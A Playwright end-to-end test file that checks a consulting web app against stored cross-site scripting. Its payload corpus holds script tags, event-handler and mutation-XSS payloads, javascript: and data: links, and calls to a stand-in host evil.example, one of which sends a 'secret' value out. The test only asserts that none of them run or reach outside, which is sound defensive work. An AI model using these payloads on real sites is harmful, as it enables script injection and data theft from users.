import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { byName, type TestServer, type TestUser, testServer } from '#server/testing/harness.ts';
import { openBrowser, visit } from './browser.ts';

let server: TestServer;
let browser: Browser;
let amina: TestUser;

const CORPUS = [
  '<script>window.hit=1</script>',
  '<img src="https://evil.example/a.png" onerror="window.hit=2">',
  '<svg onload="window.hit=3"></svg>',
  '<math><mtext><style><img src=x onerror="window.hit=4"></style></mtext></math>',
  '<form name="body"><input name="attributes"></form>',
  '<iframe srcdoc="<script>parent.hit=5</script>"></iframe>',
  '<a href="javascript:window.hit=6">here</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/b">',
  '<style>@import "https://evil.example/c.css"</style>',
  '![x](https://evil.example/d.png?q=secret)',
  '[see][1]\n[1]: https://evil.example/e',
  '<https://evil.example/f>',
];
const HOSTILE = CORPUS.join(' ');

beforeAll(async () => {
  [server, browser] = await Promise.all([testServer({}, { pages: 'built' }), openBrowser()]);
  amina = await server.newUser({ role: 'consultant', firstName: 'Amina', lastName: 'Bello' });
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

test('F09 F10 F11 what attackers put into names, notes, texts and saved documents runs nowhere and calls nobody', async () => {
  const { data: client } = await amina.client
    .from('clients')
    .insert({ name: `Zuma ${CORPUS[1]}` })
    .select('id')
    .single()
    .throwOnError();
  await amina.client
    .from('stakeholders')
    .insert({ name: 'Lagos Traders', influence_level: 5, relationship_status: 'neutral', notes: HOSTILE })
    .throwOnError();
  const text = (words: string, marks?: object[]) => ({ type: 'text', text: words, ...(marks && { marks }) });
  const link = (href: string) => [{ type: 'link', attrs: { href } }];
  // Stored past the screens, as whoever speaks to the API may do.
  const { data: stored } = await byName(amina.client)
    .from('results')
    .insert({
      function: 'generate-document',
      kind: 'privacy_policy',
      title: `Notice ${CORPUS[0]}`,
      client_id: client.id,
      content: {
        document: {
          type: 'doc',
          content: [
            { type: 'heading', attrs: { level: 2 }, content: [text(CORPUS[2] ?? '')] },
            ...CORPUS.map((one) => ({ type: 'paragraph', content: [text(one)] })),
            { type: 'paragraph', content: [text('press me', link('javascript:window.hit=7'))] },
            { type: 'paragraph', content: [text('or me', link('data:text/html,<script>1</script>'))] },
            { type: 'image', attrs: { src: 'https://evil.example/g.png' } },
          ],
        },
      },
    })
    .select('id')
    .single()
    .throwOnError();
  const page = await visit(browser, server, { as: amina });
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !/^(?:data|blob):/.test(request.url()))
      elsewhere.push(request.url());
  });
  const expectHarmless = async (where: string) => {
    await page.waitForTimeout(500);
    expect(await page.evaluate('window.hit'), where).toBeUndefined();
    expect(new URL(page.url()).origin, where).toBe(new URL(server.url).origin);
    const found = await page.evaluate(() => ({
      links: [...document.querySelectorAll('a[href]')].map((one) => one.getAttribute('href') ?? ''),
      wild: document.querySelectorAll('main :is(iframe, math, meta, script, style, img[src*="evil"])').length,
    }));
    expect(
      found.links.filter((href) => /^(?:javascript|data|vbscript):/i.test(href)),
      where,
    ).toEqual([]);
    expect(found.wild, where).toBe(0);
    expect(elsewhere, where).toEqual([]);
  };

  await page.goto('/dashboard/clients');
  await page.getByText('Zuma', { exact: false }).first().waitFor();
  await expectHarmless('clients');
  await page.goto('/dashboard/stakeholders');
  await page.getByText('Lagos Traders').first().click();
  await page.getByText('window.hit=1', { exact: false }).first().waitFor();
  await expectHarmless('stakeholder');
  await page.goto(`/dashboard/documents/${stored.id}`);
  await page
    .getByRole('heading', { name: /Notice/ })
    .first()
    .waitFor();
  await expectHarmless('document');

  await page.goto('/document-generator?tab=crisis');
  await page.getByLabel('Your message').fill(`Customer records were leaked. ${HOSTILE}`);
  await page.getByLabel('Your message').press('Enter');
  await page.getByText('72 hours to notify', { exact: false }).waitFor();
  await expectHarmless('chat');

  await page.goto('/dashboard/content-generator?tab=policy');
  await page.getByLabel(/^Policy title/).fill(`Data Bill ${CORPUS[9]}`);
  await page
    .getByLabel(/^Text of the policy/)
    .fill(`Operators shall register. Operators must keep ${HOSTILE}`);
  await page.getByRole('button', { name: 'Generate', exact: true }).click();
  await page.getByText('What it asks for').waitFor();
  await expectHarmless('generator');
  await page.context().close();
});
